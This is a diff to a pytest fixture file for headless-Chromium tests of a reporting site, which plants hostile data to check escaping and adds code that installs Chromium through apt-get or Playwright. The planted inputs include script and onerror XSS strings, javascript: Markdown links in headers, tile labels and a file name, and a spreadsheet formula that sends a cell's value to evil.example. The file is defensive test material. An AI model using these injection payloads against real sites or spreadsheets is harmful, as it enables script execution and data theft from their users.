@@ -1,6 +1,7 @@
 """Fixtures for the browser tests: the demo site built once, served over real HTTP, opened in headless Chromium.
 
-Chromium is Debian's package (`/usr/bin/chromium`), driven by Playwright; `.ci/run` installs it on a fresh machine.
+Chromium is Debian's package (`/usr/bin/chromium`), driven by Playwright; on a machine without it the tests install it
+themselves (apt-get as root, or Playwright's own download when apt cannot) and say which in one line.
 Sites are served by a thread running the standard library's HTTP server on 127.0.0.1, so pages load exactly as a
 browser loads them from a web server (fetch, relative URLs, redirects), with no network beyond this machine.
 """
@@ -24,6 +25,7 @@ from pathlib import Path
 from typing import Any, Literal
 from urllib.parse import urlparse
 
+import hostile
 import pytest
 import yaml
 from playwright.sync_api import Browser, ConsoleMessage, Page, Playwright, Route, ViewportSize, sync_playwright
@@ -38,20 +40,45 @@ PUBLISHED_MONTHS = ("2026-09", "2026-10")
 
 # Person-written text that must show as text and never run (see hostile_site).
 HOSTILE_MENTION = '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2"> terrible awful service'
+FORMULA_MENTION = '=HYPERLINK("https://evil.example/?c="&A1,"terrible awful, click") service'
 HOSTILE_TITLE = 'Mentions <img src=x onerror="window.__pwned=3"> that shout'
+# Markdown that became live javascript: links before (trust review): in a header's description, a tile label, a check
+# name, and an export's file name.
+MARKDOWN_LINK = (
+    "[read more](javascript:window.__pwned=7) ![x](javascript:window.__pwned=8) {: onclick=window.__pwned=9 }"
+)
+HOSTILE_FILE = "inbox [notes](javascript:window.__pwned=10) <img src=x onerror=window.__pwned=11>.csv"
 HOSTILE_QUERY = f"""/* ---
 title: '{HOSTILE_TITLE}'
-description: 'Written to check escaping: <script>window.__pwned=4</script> must show as text.'
+description: 'Written to check escaping: <script>window.__pwned=4</script> must show as text. {MARKDOWN_LINK}'
 unit: mentions
 grain: mention text
 pillar: reputation
 chart: {{type: bar, x: text, y: mentions}}
+checks:
+  - name: "[every row](javascript:window.__pwned=12) is fine"
+    sql: SELECT 1 WHERE false
 --- */
 SELECT text, count(*)::INTEGER AS mentions
 FROM mentions
 WHERE contains(text, 'terrible awful')
 GROUP BY text
 ORDER BY text
+"""
+HOSTILE_TILES = """/* ---
+title: Shouting weeks
+unit: mentions
+grain: week
+pillar: reputation
+chart: {x: week, y: mentions}
+tiles:
+  - label: "[shouts](javascript:window.__pwned=13) a week"
+    value: sum(mentions)
+--- */
+SELECT date_trunc('week', published_at)::DATE AS week, count(*)::INTEGER AS mentions
+FROM mentions
+GROUP BY ALL
+ORDER BY week
 """
 
 
@@ -167,16 +194,25 @@ def published_site(demo_project: Path) -> Iterator[Served]:
 
 @pytest.fixture(scope="session")
 def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
-    """A Spanish copy of the demo whose data carries HTML: a mention with <script> and onerror=, a title with <img>.
+    """A Spanish copy of the demo whose data and queries are hostile, built with the commands a person types.
 
-    The copy gets its own queries/ folder (the demo's config points at the repository's) with one extra query that
-    charts the hostile mention, so the text reaches a chart, its table, its CSV and the page title.
+    - mentions carrying HTML (<script>, onerror=) and a spreadsheet formula, charted by one extra query, so the text
+      reaches a chart, its table, its CSV and the page title;
+    - the planted personal data of tests/hostile.py (handles, emails, phone numbers in every form, in mentions,
+      inbox messages, posts and rejected rows), in exports of the real layouts, one of them under a hostile name;
+    - query headers with HTML and Markdown links in a title, a description, a tile label and a check name.
+
+    The copy gets its own queries/ folder (the demo's config points at the repository's).
     """
     folder = tmp_path_factory.mktemp("browser-hostile")
     config_path = write_demo_project(folder, root=ROOT)
-    _add_hostile_mention(folder / "exports")
+    _add_hostile_mentions(folder / "exports")
+    planted = hostile.write_hostile_exports(folder / "exports" / "hostile")
+    inbox = next(p for p in planted.files if p.name.startswith("inbox"))
+    inbox.rename(inbox.with_name(HOSTILE_FILE))
     shutil.copytree(ROOT / "queries", folder / "queries")
     (folder / "queries" / "reputation" / "shouting_mentions.sql").write_text(HOSTILE_QUERY, encoding="utf-8")
+    (folder / "queries" / "reputation" / "shouting_weeks.sql").write_text(HOSTILE_TILES, encoding="utf-8")
     config = yaml.safe_load(config_path.read_text(encoding="utf-8"))
     config["queries"] = "queries"
     config["site"]["language"] = "es"  # and in Spanish, so the charts' own words are checked too
@@ -187,41 +223,77 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
         yield served
 
 
-def _add_hostile_mention(exports: Path) -> None:
-    """Append one mention to the newest Brandwatch export, copying a real row's shape (same columns and quoting)."""
+def _add_hostile_mentions(exports: Path) -> None:
+    """Append two mentions to the newest Brandwatch export, copying a real row's shape (same columns and quoting)."""
     path = sorted(exports.rglob("brandwatch_mentions_*.csv"))[-1]
     text = path.read_text(encoding="utf-8")
     _, _, table = text.partition("\n\n")
     reader = list(csv.DictReader(io.StringIO(table)))
-    row = dict(reader[-1])
-    row.update(
-        {
-            "Date": row["Date"][:10] + " 08:00:00.0",
-            "Snippet": HOSTILE_MENTION,
-            "Full Text": HOSTILE_MENTION,
-            "Url": "https://x.com/someone_angry/status/1999999999999999999",
-            "Domain": "x.com",
-            "Sentiment": "negative",
-            "Page Type": "twitter",
-            "Thread Entry Type": "post",
-            "Language": "en",
-            "Author": "someone_angry",
-            "Full Name": "Someone Angry",
-            "Thread Id": "1999999999999999999",
-        }
-    )
     out = io.StringIO()
     writer = csv.DictWriter(out, fieldnames=list(reader[0].keys()), lineterminator="\n")
-    writer.writerow(row)
+    for number, body in enumerate((HOSTILE_MENTION, FORMULA_MENTION)):
+        row = dict(reader[-1])
+        row.update(
+            {
+                "Date": row["Date"][:10] + f" 08:0{number}:00.0",
+                "Snippet": body,
+                "Full Text": body,
+                "Url": f"https://x.com/someone_angry/status/199999999999999999{number}",
+                "Domain": "x.com",
+                "Sentiment": "negative",
+                "Page Type": "twitter",
+                "Thread Entry Type": "post",
+                "Language": "en",
+                "Author": "someone_angry",
+                "Full Name": "Someone Angry",
+                "Thread Id": f"199999999999999999{number}",
+            }
+        )
+        writer.writerow(row)
     path.write_text(text.rstrip("\n") + "\n" + out.getvalue(), encoding="utf-8")
 
 
 # ---- the browser ----------------------------------------------------------------------------------------------------
-def chromium_executable() -> str:
-    found = shutil.which("chromium")
-    if not found:
-        pytest.fail("no `chromium` on PATH: the browser tests drive Debian's chromium; `.ci/run` installs it")
-    return found
+DEBIAN_CHROMIUM = Path("/usr/bin/chromium")
+INSTALL_SECONDS = 900
+
+
+def _apt_install_chromium() -> bool:
+    """Debian's chromium package, installed with apt-get as root or through a sudo that asks no password."""
+    if shutil.which("apt-get") is None:
+        return False
+    as_root = [] if os.geteuid() == 0 else ["sudo", "-n"]
+    if as_root and shutil.which("sudo") is None:
+        return False
+    env = {**os.environ, "DEBIAN_FRONTEND": "noninteractive"}
+    install = ["apt-get", "install", "-y", "-q", "--no-upgrade", "--no-install-recommends", "chromium"]
+    for command in (["apt-get", "update", "-q"], install):
+        done = subprocess.run([*as_root, *command], capture_output=True, env=env, timeout=INSTALL_SECONDS, check=False)
+        if done.returncode != 0:
+            return False
+    return True
+
+
+def find_or_install_chromium() -> tuple[str | None, str]:
+    """The Chromium the browser tests drive, and one line saying which: Debian's chromium when it is on PATH or can
+    be installed with apt, else Playwright's own download (None: Playwright's default executable)."""
+    found = shutil.which("chromium") or (str(DEBIAN_CHROMIUM) if DEBIAN_CHROMIUM.is_file() else None)
+    if found:  # installed: never touched (no apt-get, so no upgrade either)
+        return found, f"browser tests: Debian's chromium ({found})"
+    if _apt_install_chromium() and (shutil.which("chromium") or DEBIAN_CHROMIUM.is_file()):
+        found = shutil.which("chromium") or str(DEBIAN_CHROMIUM)
+        return found, f"browser tests: no chromium here, so installed Debian's chromium with apt-get ({found})"
+    done = subprocess.run(
+        [sys.executable, "-m", "playwright", "install", "chromium"],
+        capture_output=True,
+        text=True,
+        timeout=INSTALL_SECONDS,
+        check=False,
+    )
+    if done.returncode != 0:
+        last = (done.stderr or done.stdout).strip().splitlines()[-1:]
+        pytest.fail(f"no chromium: not on PATH, apt-get could not install it, and Playwright's download failed: {last}")
+    return None, "browser tests: no chromium package could be installed, so downloaded Playwright's own Chromium"
 
 
 @pytest.fixture(scope="session")
@@ -231,8 +303,14 @@ def playwright_driver() -> Iterator[Playwright]:
 
 
 @pytest.fixture(scope="session")
-def browser(playwright_driver: Playwright) -> Iterator[Browser]:
-    launched = playwright_driver.chromium.launch(executable_path=chromium_executable())
+def browser(playwright_driver: Playwright, request: pytest.FixtureRequest) -> Iterator[Browser]:
+    executable, said = find_or_install_chromium()
+    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
+    capture = request.config.pluginmanager.get_plugin("capturemanager")
+    if reporter is not None and capture is not None:
+        with capture.global_and_fixture_disabled():  # else the line would go to the captured output of a test
+            reporter.write_line(said)
+    launched = playwright_driver.chromium.launch(executable_path=executable)
     yield launched
     launched.close()
 
